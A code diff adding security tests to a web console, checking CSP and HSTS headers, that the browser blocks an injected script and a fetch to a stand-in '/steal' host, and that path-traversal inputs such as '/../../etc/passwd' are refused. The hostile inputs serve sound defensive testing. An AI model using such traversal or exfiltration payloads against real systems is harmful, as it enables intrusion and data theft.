@@ -1,10 +1,17 @@
 // The console in a real browser (Debian's Chromium), served by the real backend as in production.
 import test from 'ava';
+import { execFileSync } from 'node:child_process';
+import { once } from 'node:events';
+import http from 'node:http';
+import https from 'node:https';
+import type { AddressInfo } from 'node:net';
+import Koa from 'koa';
 import type { Page } from 'playwright-core';
 import { fileFixture, testDatabase } from './helpers/env.ts';
-import { startApp } from './helpers/server.ts';
+import { startApp, TEST_READER_AGENT_ORIGINS } from './helpers/server.ts';
 import { launchBrowser, screenshotPath, signIn } from './helpers/browser.ts';
 import { DEMO_PASSWORD } from '../../seeds/01_demo_town.ts';
+import { securityHeaders } from '../src/http/security-headers.ts';
 
 const SYSTEM_READY = 'すべて正常に動作しています';
 
@@ -108,4 +115,88 @@ test('a clerk enrolls a card reader with a code from the console, sees it listed
   const refused = await fetch(`${base}/api/v1/devices/self`, { headers: { Authorization: `Bearer ${token}` } });
   t.is(refused.status, 401);
   t.is((await refused.json()).code, 'device_unknown');
+});
+
+/** A GET with the path sent exactly as given (fetch would resolve `..` and re-encode it first). */
+async function rawGet(base: string, path: string, options: https.RequestOptions = {}): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
+  const url = new URL(base);
+  const request = (url.protocol === 'https:' ? https : http).request({ host: url.hostname, port: url.port, path, method: 'GET', ...options });
+  request.end();
+  const [response] = (await once(request, 'response')) as [http.IncomingMessage];
+  let body = '';
+  for await (const chunk of response) body += chunk;
+  return { status: response.statusCode!, headers: response.headers, body };
+}
+
+const POLICY = ["default-src 'self'", "script-src 'self'", "script-src-attr 'none'", "style-src 'self'", `connect-src 'self' ${TEST_READER_AGENT_ORIGINS.join(' ')}`,
+  "img-src 'self' data:", "font-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'"];
+
+test('the console and the API answer with the security headers; no HSTS over plain HTTP', async (t) => {
+  const { base } = await fixture();
+  for (const path of ['/', '/sign-in', '/healthz', '/api/v1/staff/me']) {
+    const { headers } = await rawGet(base, path);
+    t.deepEqual(String(headers['content-security-policy']).split(';').sort(), [...POLICY].sort(), path);
+    t.is(headers['x-content-type-options'], 'nosniff', path);
+    t.is(headers['referrer-policy'], 'no-referrer', path);
+    t.is(headers['x-frame-options'], 'DENY', path);
+    t.is(headers['strict-transport-security'], undefined, path);
+  }
+});
+
+test('over HTTPS the answers carry HSTS', async (t) => {
+  // The app's security headers behind real TLS (ctx.secure), with a self-signed certificate for 127.0.0.1.
+  const pem = execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', '-', '-days', '1', '-subj', '/CN=127.0.0.1'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
+  const app = new Koa().use(securityHeaders(TEST_READER_AGENT_ORIGINS)).use((ctx) => { ctx.body = 'ok'; });
+  const server = https.createServer({ key: pem, cert: pem }, app.callback()).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  t.teardown(() => { server.closeAllConnections(); server.close(); });
+  const { headers } = await rawGet(`https://127.0.0.1:${(server.address() as AddressInfo).port}`, '/', { rejectUnauthorized: false });
+  t.is(headers['strict-transport-security'], 'max-age=63072000; includeSubDomains');
+  t.is(headers['x-content-type-options'], 'nosniff');
+});
+
+test('a page that breaks the policy is stopped by the browser, and the browser check fails on it', async (t) => {
+  const { base, browser } = await fixture();
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(`${base}/sign-in`);
+  await page.getByLabel('ログインID').waitFor();
+  // What an injected script would try: inline code, and sending data off to another origin.
+  const ran = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.injected = true';
+    document.body.append(script);
+    const sent = await fetch('http://192.0.2.1/steal').then(() => true, () => false);
+    return { inline: (window as { injected?: boolean }).injected === true, sent };
+  });
+  t.deepEqual(ran, { inline: false, sent: false });
+  const error = await t.throwsAsync(context.close());
+  t.regex(error?.message ?? '', /The page broke its Content-Security-Policy:[\s\S]*script-src[\s\S]*connect-src/);
+});
+
+test('bad static paths answer 400 or 404 with a problem, never 500', async (t) => {
+  const { base } = await fixture();
+  const cases: Array<[string, number, string]> = [
+    ['/%E0%A4%A', 400, 'request_invalid'],
+    ['/%00', 400, 'request_invalid'],
+    ['/index.html%00.png', 400, 'request_invalid'],
+    ['/../../etc/passwd', 404, 'not_found'],
+    ['/%2e%2e/%2e%2e/etc/passwd', 404, 'not_found'],
+    ['/assets/..%2f..%2fpackage.json', 404, 'not_found'],
+    ['/..%5c..%5cpackage.json', 404, 'not_found'],
+    [`/${'a'.repeat(5000)}`, 404, 'not_found'],
+    [`/${'a/'.repeat(600)}x.js`, 404, 'not_found'],
+    ['/assets', 404, 'not_found'],
+    ['/assets/', 404, 'not_found'],
+    ['/assets/missing.js', 404, 'not_found'],
+  ];
+  for (const [path, status, code] of cases) {
+    const answer = await rawGet(base, path);
+    t.is(answer.status, status, path.slice(0, 60));
+    t.is(answer.headers['content-type'], 'application/problem+json; charset=utf-8', path.slice(0, 60));
+    t.is(JSON.parse(answer.body).code, code, path.slice(0, 60));
+  }
+  // The console's own routes and files are still there.
+  t.is((await rawGet(base, '/merchant/devices')).status, 200);
+  t.regex((await rawGet(base, '/')).body, /<script type="module" crossorigin src="\/assets\/index-[\w-]+\.js"><\/script>/);
 });
